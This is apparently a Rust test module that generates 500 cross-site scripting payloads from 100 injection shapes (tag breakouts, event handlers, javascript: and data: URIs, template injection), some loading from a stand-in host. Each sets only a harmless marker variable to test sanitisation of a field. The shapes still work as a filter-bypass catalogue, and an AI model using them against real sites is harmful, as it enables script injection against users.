//! Texts that try to become script.

/// The variable that a payload sets if it has run.
pub(crate) const TRACE: &str = "xssRan";

/// The action of each: it leaves a trace, in as many ways as there are.
const ACTIONS: [&str; 5] = [
    "top.xssRan=1",
    "window['xssRan']=1",
    "(0,eval)('xssRan=1')",
    "Function('xssRan=1')()",
    "setTimeout('xssRan=1')",
];

/// The shape of each, to be read as something other than text; `@` is the action. Some ask for something from another machine.
const SHAPES: [&str; 100] = [
    "<script>@</script>",
    "<SCRIPT>@</SCRIPT>",
    "<script\n>@</script\n>",
    "<script/x>@</script>",
    "<scr<script>ipt>@</scr</script>ipt>",
    "</script><script>@</script>",
    "</title><script>@</script>",
    "</style><script>@</script>",
    "</textarea><script>@</script>",
    "</noscript><script>@</script>",
    "<!--><script>@</script>-->",
    "<![CDATA[><script>@</script>]]>",
    "\"><script>@</script>",
    "'><script>@</script>",
    "`><script>@</script>",
    "<script src=\"data:text/javascript,@\"></script>",
    "<script src=//outside.example/x></script><script type=module>@</script>",
    "<svg><script>@</script></svg>",
    "<svg><script href=\"data:,@\"/></svg>",
    "<math><mtext><script>@</script>",
    "<img src=//outside.example/x onerror=\"@\">",
    "<img src=x onerror='@'>",
    "<img/src=x/onerror=@>",
    "<IMG SRC=x ONERROR=\"@\">",
    "<img src onerror=\"@\" x=",
    "<img src=x:x onerror\n=\n\"@\">",
    "\"><img src=x onerror=\"@\">",
    "'><img src=x onerror=\"@\">",
    "<<img src=x onerror=\"@\">",
    "<image src=//outside.example/x onerror=\"@\">",
    "<svg onload=\"@\">",
    "<svg/onload=@>",
    "<svg><g onload=\"@\"></g></svg>",
    "<svg><animate onbegin=\"@\" attributeName=x dur=1s>",
    "<svg><set onbegin=\"@\" attributeName=x>",
    "<svg><a xlink:href=\"javascript:@\"><text y=9>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg onload='@'/>#x\"/></svg>",
    "<svg><foreignObject><body onload=\"@\">",
    "<svg><image href=//outside.example/x onerror=\"@\"/></svg>",
    "<svg><style><img src=x onerror=\"@\">",
    "<body onload=\"@\">",
    "<body onpageshow=\"@\">",
    "<iframe src=\"javascript:@\"></iframe>",
    "<iframe srcdoc=\"<script>@</script>\"></iframe>",
    "<iframe onload=\"@\" src=//outside.example/x></iframe>",
    "<object data=\"javascript:@\"></object><object data=//outside.example/x></object>",
    "<object data=\"data:text/html,<script>@</script>\"></object>",
    "<embed src=\"javascript:@\"><embed src=//outside.example/x>",
    "<embed src=\"data:text/html,<script>@</script>\">",
    "<frameset onload=\"@\">",
    "<video src=//outside.example/x onerror=\"@\"></video>",
    "<video><source onerror=\"@\"></video>",
    "<audio src=//outside.example/x onerror=\"@\"></audio>",
    "<video poster=//outside.example/x onloadstart=\"@\" src=x></video>",
    "<video><track default onerror=\"@\" src=//outside.example/x></video>",
    "<input onfocus=\"@\" autofocus>",
    "<select onfocus=\"@\" autofocus></select>",
    "<textarea onfocus=\"@\" autofocus></textarea>",
    "<button onfocus=\"@\" autofocus>x</button>",
    "<details open ontoggle=\"@\">x</details>",
    "<dialog open onfocus=\"@\">",
    "<p tabindex=0 onfocus=\"@\" autofocus>x</p>",
    "<a href=\"javascript:@\">x</a>",
    "<a href=\"JaVaScRiPt:@\">x</a>",
    "<a href=\"java\tscript:@\">x</a>",
    "<a href=\"&#106;avascript:@\">x</a>",
    "<a href=\" javascript:@\">x</a>",
    "javascript:@",
    "JAVASCRIPT:@//",
    "  javascript:@",
    "java\nscript:@",
    "javascript://x/%0a@",
    "data:text/html,<script>@</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AueHNzUmFuPTE8L3NjcmlwdD4=#@",
    "vbscript:@",
    "<form action=\"javascript:@\"><input type=image src=//outside.example/x>",
    "<form><button formaction=\"javascript:@\">x</button></form>",
    "<isindex action=\"javascript:@\" type=submit>",
    "<meta http-equiv=refresh content=\"0;url=javascript:@\">",
    "<base href=//outside.example/><base href=\"javascript:@//\"><img src=x>",
    "<link rel=stylesheet href=\"//outside.example/x?@\">",
    "<link rel=preconnect href=//outside.example><link rel=import href=\"data:,@\">",
    "<style>@import '//outside.example/x?@';</style>",
    "<style>*{background:url(\"//outside.example/x?@\")}</style>",
    "<div style=\"background:url(//outside.example/x?@)\">x",
    "<div style=\"width:expression(@)\">",
    "<table background=\"//outside.example/x?@\">",
    "<marquee onstart=\"@\">x</marquee>",
    "<template><script>@</script></template>",
    "<portal src=\"javascript:@\">",
    "\" onmouseover=\"@\" x=\"",
    "' onmouseover='@' x='",
    "\" autofocus onfocus=\"@\" x=\"",
    "';@;//",
    "\";@;//",
    "\\\";@;//",
    "${@}",
    "{{constructor.constructor('@')()}}",
    "[[@]]",
    "\u{202e}<img src=x onerror=\"@\">",
];

/// Five hundred of them.
pub(crate) fn all() -> Vec<String> {
    let payloads = SHAPES
        .iter()
        .flat_map(|shape| ACTIONS.iter().map(move |action| shape.replace('@', action)));
    payloads.collect()
}

/// A hundred: one of each shape, each with another action than its neighbour.
pub(crate) fn one_of_each_shape() -> Vec<String> {
    let actions = ACTIONS.iter().cycle();
    let payloads = SHAPES.iter().zip(actions);
    payloads
        .map(|(shape, action)| shape.replace('@', action))
        .collect()
}

#[test]
fn there_are_five_hundred_and_no_two_are_the_same() {
    let mut payloads = all();
    payloads.sort();
    payloads.dedup();
    assert_eq!(payloads.len(), 500);
    // The longest that a `client_ref` holds.
    let longest = payloads.iter().map(|one| one.chars().count()).max();
    assert!(longest <= Some(100), "{longest:?}");
}
